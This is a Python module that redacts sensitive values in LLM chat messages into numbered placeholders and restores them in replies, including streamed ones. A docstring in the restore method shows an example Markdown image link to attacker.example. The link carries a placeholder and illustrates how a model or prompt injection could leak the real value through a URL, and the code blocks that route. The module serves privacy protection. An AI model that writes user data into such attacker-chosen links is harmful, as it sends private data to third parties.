"""Redaction: findings swapped for placeholders such as ``[EMAIL_1]``, and the way back.

The placeholder syntax lives here and only here: ``OPEN`` + KIND + ``_`` + number + ``CLOSE``,
where KIND is the detector's name upper-cased with every other character run turned into
``_`` (``pattern:order-id`` gives ``PATTERN_ORDER_ID``), at most ``MAX_KIND`` characters, and the
number counts that kind's distinct values. So a placeholder is at most ``MAX_PLACEHOLDER``
characters, which is what lets :class:`StreamRestorer` restore one split across stream chunks.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping

from ..._text import located_texts
from ..._types import Message
from .findings import Finding

__all__ = ["MAX_PLACEHOLDER", "Redaction", "StreamRestorer", "placeholder", "placeholder_kind", "redact_messages"]

OPEN = "["
CLOSE = "]"
MAX_KIND = 55
MAX_NUMBER = 999_999  # more distinct values of one kind than this in one request: refuse to redact
MAX_PLACEHOLDER = len(OPEN) + MAX_KIND + 1 + len(str(MAX_NUMBER)) + len(CLOSE)  # 64

_PLACEHOLDER_RE = re.compile(re.escape(OPEN) + r"[A-Z0-9_:]+_[0-9]+" + re.escape(CLOSE))
_NOT_KIND = re.compile(r"[^A-Z0-9]+")


def placeholder_kind(detector: str) -> str:
    """The KIND a detector's findings are named by: ``"pattern:order-id"`` -> ``"PATTERN_ORDER_ID"``."""
    return _NOT_KIND.sub("_", detector.upper()).strip("_")[:MAX_KIND].rstrip("_")


def placeholder(kind: str, number: int) -> str:
    """The placeholder for the ``number``-th distinct value of ``kind``: ``[EMAIL_1]``."""
    if number > MAX_NUMBER:
        # a longer placeholder could slip past StreamRestorer; failing makes the policy fail closed
        raise ValueError(f"more than {MAX_NUMBER} values of one kind to redact")
    return f"{OPEN}{kind}_{number}{CLOSE}"


class Redaction:
    """Messages with every finding replaced by a placeholder, and the way back.

    ``messages`` are safe to send where the raw data may not go; ``restore(text)`` puts the
    original values back into a reply that repeats the placeholders. The originals are kept
    only here and never shown by ``repr``.
    """

    __slots__ = ("_values", "messages")

    def __init__(self, messages: tuple[Message, ...], values: Mapping[str, str]) -> None:
        self.messages = messages
        self._values = dict(values)

    def __repr__(self) -> str:
        return f"Redaction(messages={len(self.messages)}, placeholders={sorted(self._values)})"

    @property
    def placeholders(self) -> tuple[str, ...]:
        return tuple(self._values)

    def restore(self, text: str | None, before: str = "") -> str | None:
        """``text`` with each placeholder in plain text replaced by the value it stands for.

        A placeholder the model put into a URL, a link target or markup stays a placeholder: a
        model (or a prompt injection) must not be able to have the real value written into an
        address it chose (``![x](https://attacker.example/?u=[EMAIL_1])``). ``before`` is the
        text that came before ``text`` (a stream's earlier chunks).
        """
        if not text or not self._values:
            return text

        def swap(m: re.Match[str]) -> str:
            value = self._values.get(m.group(0))
            if value is None or in_link((before + text[max(0, m.start() - _CONTEXT) : m.start()])[-_CONTEXT:]):
                return m.group(0)
            return value

        return _PLACEHOLDER_RE.sub(swap, text)


_CONTEXT = 2048  # how far back a link or tag that is still open is looked for
_URLISH = frozenset("/=?&%#\\")  # a URL's path, query or fragment (JSON's ":" and "," are not)
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*:")  # mailto:, https:, javascript:


def in_link(before: str) -> bool:
    """Whether text that continues ``before`` is inside a URL, a Markdown link target or an HTML
    tag: the run of non-space characters it joins holds URL punctuation, or a ``](`` or ``<`` is
    still open."""
    token = before.rsplit(None, 1)[-1] if before and not before[-1].isspace() else ""
    if token:
        bare = token.lstrip("\"'([{<*_")
        if not _URLISH.isdisjoint(token) or bare.lower().startswith("www.") or _SCHEME.match(bare):
            return True
    line = before[before.rfind("\n") + 1 :]
    if line.rfind("](") > line.rfind(")"):
        return True
    tag = max((m.start() for m in _TAG_OPEN.finditer(before)), default=-1)
    return tag > before.rfind(">")


_TAG_OPEN = re.compile(r"<[A-Za-z!/]")


def redact_messages(messages: tuple[Message, ...], findings: Iterable[Finding]) -> Redaction:
    """``messages`` with each finding's text replaced by its placeholder (the same value, the
    same placeholder), content parts and tool-call arguments included."""
    by_text: dict[tuple[int, int | None, str], list[Finding]] = {}
    for f in findings:
        by_text.setdefault((f.message, f.part, f.field), []).append(f)
    values: dict[str, str] = {}
    names: dict[str, str] = {}
    counters: dict[str, int] = {}
    # placeholder-shaped text the caller already wrote (a template's "[EMAIL_1]") is never one of
    # ours: numbering skips it, so a reply that repeats it gets it back as written, not a value
    taken = {m.group(0) for *_, text in located_texts(messages) for m in _PLACEHOLDER_RE.finditer(text)}

    def swap(text: str, found: list[Finding]) -> str:
        # overlapping findings (a value split across messages is also found in each piece) merge
        merged: list[tuple[int, int, str]] = []
        for f in sorted(found, key=lambda f: (f.start, -f.end)):
            if merged and f.start < merged[-1][1]:
                s, e, d = merged[-1]
                merged[-1] = (s, max(e, f.end), d)
            else:
                merged.append((f.start, f.end, f.detector))
        out: list[str] = []
        at = 0
        for start, end, detector in merged:
            value = text[start:end]
            known = names.get(value)
            if known is None:
                kind = placeholder_kind(detector)
                counters[kind] = counters.get(kind, 0) + 1
                known = placeholder(kind, counters[kind])
                while known in taken:
                    counters[kind] += 1
                    known = placeholder(kind, counters[kind])
                names[value] = known
                values[known] = value
            out += (text[at:start], known)
            at = end
        out.append(text[at:])
        return "".join(out)

    result: list[Message] = []
    for i, message in enumerate(messages):
        new = dict(message)
        content = message.get("content")
        if isinstance(content, str) and (i, None, "content") in by_text:
            new["content"] = swap(content, by_text[(i, None, "content")])
        elif isinstance(content, list):
            parts = []
            for j, part in enumerate(content):
                part_key: tuple[int, int | None, str] = (i, j, "content")
                if part_key in by_text and isinstance(part, Mapping):
                    part = {**part, "text": swap(part["text"], by_text[part_key])}
                parts.append(part)
            new["content"] = parts
        calls = message.get("tool_calls")
        if isinstance(calls, list):
            fixed = []
            for j, call in enumerate(calls):
                call_key: tuple[int, int | None, str] = (i, None, f"tool_calls[{j}]")
                if call_key in by_text:
                    fn = dict(call["function"])
                    fn["arguments"] = swap(fn["arguments"], by_text[call_key])
                    call = {**call, "function": fn}
                fixed.append(call)
            new["tool_calls"] = fixed
        result.append(new)
    return Redaction(tuple(result), values)


class StreamRestorer:
    """Restores placeholders in streamed text, holding back a tail that may be the first part
    of a placeholder split across chunks.

    ``feed(text)`` returns what can be shown now (restored); ``flush()`` returns the held-back
    rest at the end of the stream. A tail from the last ``OPEN`` with no ``CLOSE`` after it is
    held back while it is no longer than the longest placeholder (``MAX_PLACEHOLDER``); a longer
    one cannot be a placeholder and goes out as plain text.
    """

    __slots__ = ("_before", "_pending", "_restore")

    HOLD = MAX_PLACEHOLDER

    def __init__(self, restore: Callable[[str | None, str], str | None]) -> None:
        self._restore = restore
        self._pending = ""
        self._before = ""  # the reply so far (its tail), so a link opened in an earlier chunk counts

    def feed(self, text: str) -> str:
        text = self._pending + text
        cut = text.rfind(OPEN)
        if cut != -1 and CLOSE not in text[cut:] and len(text) - cut <= self.HOLD:
            text, self._pending = text[:cut], text[cut:]
        else:
            self._pending = ""
        return self._out(text)

    def flush(self) -> str:
        text, self._pending = self._pending, ""
        return self._out(text)

    def _out(self, text: str) -> str:
        restored = self._restore(text, self._before) or ""
        self._before = (self._before + text)[-_CONTEXT:]
        return restored
